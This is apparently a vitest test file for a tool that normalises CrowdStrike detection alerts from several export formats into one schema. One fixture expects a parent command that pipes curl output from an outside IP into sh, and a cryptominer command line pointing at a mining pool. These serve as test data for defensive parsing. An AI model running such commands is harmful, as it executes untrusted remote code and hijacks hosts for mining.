import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseCefLine } from '../../../src/alerts/readers/cef.js';
import { crowdstrike, dispositionAction } from '../../../src/alerts/vendors/crowdstrike.js';
import { CORPUS, FIXTURES, FORMATS, hasShared, mapAll, readCsv, readJson, readNdjson, src } from './helpers.js';

const CS = `${FORMATS}crowdstrike/`;

describe('crowdstrike disposition', () => {
  it.each([
    [{ kill_process: true, policy_disabled: true }, 272, 'detected'],
    [{ KillProcess: true, PolicyDisabled: true }, 272, 'detected'],
    [{ kill_process: true }, 16, 'killed'],
    [{ kill_process: true, kill_action_failed: true }, 16, 'detected'],
    [{ process_blocked: true }, 2048, 'blocked'],
    [{ ProcessBlocked: true, QuarantineFile: true }, 2176, 'quarantined'],
    [{ detect: false, kill_process: false }, 0, 'detected'],
    ['{\n  "KillProcess": true,\n  "PolicyDisabled": true\n}', 272, 'detected'],
  ])('flags %j (value %i) → %s', (flags, value, expected) => {
    expect(dispositionAction(flags, value, undefined)).toBe(expected);
  });

  it('reads the description, then the bits, when there are no flags', () => {
    expect(dispositionAction(undefined, undefined, 'Detection, process would have been killed if related prevention policy setting was enabled.')).toBe('detected');
    expect(dispositionAction(undefined, undefined, 'Prevention, process killed.')).toBe('killed');
    expect(dispositionAction(undefined, 272, undefined)).toBe('detected');
    expect(dispositionAction(undefined, 16, undefined)).toBe('killed');
    expect(dispositionAction(undefined, 2176, undefined)).toBe('quarantined');
    expect(dispositionAction(undefined, undefined, undefined)).toBe('unknown');
  });
});

describe('crowdstrike fixtures', () => {
  const [policyDisabled, killFailed, quarantined] = mapAll(crowdstrike, readJson(`${FIXTURES}crowdstrike-variants.json`), 'cs.json');

  it('maps an Alerts API record whose kill was disabled by policy (272) as detected', () => {
    expect(policyDisabled.action).toBe('detected');
    expect(policyDisabled.id).toBe('1f2e3d4c5b6a79881726354453627180:ind:0a1b2c3d4e5f60718293a4b5c6d7e8f9:771204455190-5701-10021');
    expect(policyDisabled.time).toBe('2026-03-02T14:05:11.123Z');
    expect(policyDisabled.host).toEqual({ name: 'worker-3.internal.example', ips: ['10.20.3.14'], instanceId: 'i-0123456789abcdef0' });
    expect(policyDisabled.process).toMatchObject({
      name: 'xmrig',
      path: '/tmp/.x/xmrig',
      commandLine: '/tmp/.x/xmrig -o stratum+tcp://pool.example:3333',
      pid: '48812',
      user: 'www-data',
      uid: '33',
      startTime: '2026-03-02T14:05:10.000Z',
    });
    expect(policyDisabled.process.ancestors.map((a) => a.name)).toEqual(['bash', 'php-fpm']);
    expect(policyDisabled.process.ancestors[0].commandLine).toBe('bash -c curl -s http://203.0.113.9/x | sh');
    expect(policyDisabled.tactics).toEqual(['TA0002']);
    expect(policyDisabled.techniques).toEqual(['T1059']);
    expect(policyDisabled.severity).toBe('high');
  });

  it('maps container detection fields and treats a failed kill as not killed', () => {
    expect(killFailed.action).toBe('detected');
    expect(killFailed.cluster).toBe('prod-east');
    expect(killFailed.container).toEqual({ id: '6f1b2c3d4e5f', pod: 'api-6d9f7c8b5-x2x9q', namespace: 'payments' });
    expect(killFailed.severity).toBe('medium');
  });

  it('maps a quarantine disposition without flags', () => {
    expect(quarantined.action).toBe('quarantined');
    expect(quarantined.severity).toBe('critical');
  });
});

describe.skipIf(!hasShared)('crowdstrike samples', () => {
  it('maps the Alerts API v2 record', () => {
    const [a] = mapAll(crowdstrike, readJson(`${CS}elastic-integrations_alert_test-alert.log.record1.json`));
    expect(a.id).toBe('92012896127c4a8236ba7601b886b0:ind:2ce412d17b334ad4adc8c1c54dbfec4b:399748687993-5761-42627600');
    expect(a.time).toBe('2023-11-03T18:00:22.328Z');
    expect(a.host.name).toBe('ABC709-1175');
    expect(a.host.ips).toEqual(['81.2.69.142']);
    expect(a.process.name).toBe('openvpn-abc-pfSense-UDP4-1194-pfsense-install-2.6.5-I001-amd64.exe');
    expect(a.process.pid).toBe('17076');
    expect(a.process.user).toBe('mohit.jha');
    expect(a.process.ancestors.map((p) => p.name)).toEqual(['explorer.exe', 'userinit.exe']);
    expect(a.process.ancestors[0]).toMatchObject({ pid: '1040', commandLine: 'C:\\WINDOWS\\Explorer.EXE' });
    expect(a.severity).toBe('low');
    expect(a.action).toBe('quarantined');
    expect(a.container).toEqual({});
  });

  it('maps streaming EPPDetectionSummaryEvents, keeping 19-digit Linux pids exact', () => {
    const [blocked, linux, standard] = mapAll(crowdstrike, readNdjson(`${CS}elastic-integrations_test-falcon-epp-detection-summary.log.excerpt.ndjson`));
    expect(blocked.action).toBe('blocked');
    expect(blocked.host).toEqual({ name: 'DESKTOP1111', ips: ['81.2.69.144'] });
    expect(linux).toMatchObject({ title: 'Known Malware', severity: 'high', action: 'detected', time: '2023-06-15T16:06:52.400Z' });
    expect(linux.host).toEqual({ name: 'linux-vm', ips: ['172.17.0.1'] });
    expect(linux.process).toMatchObject({ name: 'git', path: '/usr/bin/git', pid: '1719309930613520072', user: 'azureuser' });
    expect(linux.process.commandLine).toBe('git clone https://github.com/redcanaryco/atomic-red-team.git');
    expect(linux.process.ancestors).toEqual([
      { name: 'bash', path: '/usr/bin/bash', commandLine: '-bash', pid: '1719308637781199091' },
      { name: 'sshd', path: '/usr/sbin/sshd', commandLine: '/usr/sbin/sshd -D -R' },
    ]);
    expect(standard.action).toBe('detected');
    expect(standard.id).toBe('cccccccccccccccccccccccccccccccc:ind:eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee:43185188660-10197-561424');
  });

  it('maps the Sentinel CSV export (JSON in cells, day-first dates)', () => {
    const [a] = mapAll(crowdstrike, readCsv(`${CS}azure-sentinel_ASIM_CrowdStrike_Falcon_AlertEvent_IngestedLogs.header+row1.csv`), 'cs.csv', { dateOrder: 'dmy' });
    expect(a.time).toBe('2026-06-11T08:02:23.353Z');
    expect(a.id).toBe('6c5013391ca490509937309c0521b3c6:ind:430277e91d0e4b79a254d543df474365:10256761721621-41004-56404240');
    expect(a.host).toEqual({ name: 'host-406174', ips: ['10.202.40.30'] });
    expect(a.process).toMatchObject({ name: 'Installer.exe', pid: '17308', user: 'contoso.user' });
    expect(a.process.commandLine).toContain('ZInstaller --conf.mode=silent');
    expect(a.process.ancestors[0].pid).toBe('42868');
    expect(a.process.ancestors[1].name).toBe('explorer.exe');
    expect(a.action).toBe('killed');
    expect(a.severity).toBe('informational');
  });

  it('maps the Panther-stored DetectionSummary (flags as a JSON string)', () => {
    const text = readFileSync(`${CS}panther-analysis_crowdstrike_detection_passthrough_test.yml.txt`, 'utf8');
    const json = text.slice(text.indexOf('{'), text.lastIndexOf('}') + 1).replace(/,\s*}$/, '}');
    const record = JSON.parse(json.replace(/"ProcessId": (\d+)/, '"ProcessId": "$1"').replace(/"ParentProcessId": (\d+)/, '"ParentProcessId": "$1"'));
    expect(crowdstrike.detect(record, { fileName: 'x' })).toBeGreaterThan(0.9);
    const a = crowdstrike.map(record, src('panther'));
    expect(a.time).toBe('2021-09-18T20:38:52.000Z');
    expect(a.action).toBe('quarantined');
    expect(a.process.path).toBe('/Applications/app.app/Contents/MacOS/pup app');
    expect(a.process.ancestors[0]).toMatchObject({ path: '/usr/libexec/runningboardd' });
  });

  it('maps the SIEM connector CEF line', () => {
    const line = readFileSync(`${CS}devo-docs_cef_falconhost_DetectionSummaryEvent.txt`, 'utf8').trim();
    const record = parseCefLine(line);
    expect(record).toBeDefined();
    expect(crowdstrike.detect(record!, { fileName: 'x' })).toBe(1);
    const a = crowdstrike.map(record!, src('cef'));
    expect(a.time).toBe('2021-11-19T10:49:19.606Z');
    expect(a.host.name).toBe('SERVERNAME-A');
    expect(a.process).toMatchObject({ name: 'FIBOCOM_MT_V1.0.3.9.exe', pid: '13658726666418', user: 'SPH-123ABC-HPM' });
    expect(a.process.ancestors[0].pid).toBe('13580823324206');
  });
});

describe.skipIf(!hasShared)('crowdstrike on the eks-calico corpus', () => {
  const read = () => mapAll(crowdstrike, readJson(`${CORPUS}crowdstrike-alerts.json`));
  it('maps every record with a time, a node host and an instance id', () => {
    const alerts = read();
    expect(alerts).toHaveLength(26);
    for (const a of alerts) {
      expect(a.time).toMatch(/^2026-11-20T/);
      expect(a.host.name).toMatch(/^ip-10-0-\d+-\d+\.eu-west-1\.compute\.internal$/);
      expect(a.host.instanceId).toMatch(/^i-[0-9a-f]+$/);
      expect(a.process.commandLine).toBeTruthy();
    }
  });
  it('reads the 272 disposition as detected and the others as the flags say', () => {
    const alerts = read();
    const byDisposition = new Map<number, Set<string>>();
    alerts.forEach((a) => {
      const d = Number(a.raw.pattern_disposition);
      byDisposition.set(d, (byDisposition.get(d) ?? new Set()).add(a.action));
    });
    expect([...(byDisposition.get(272) ?? [])]).toEqual(['detected']);
    expect([...(byDisposition.get(16) ?? [])]).toEqual(['killed']);
    expect([...(byDisposition.get(2048) ?? [])]).toEqual(['blocked']);
    expect([...(byDisposition.get(0) ?? [])]).toEqual(['detected']);
  });
});
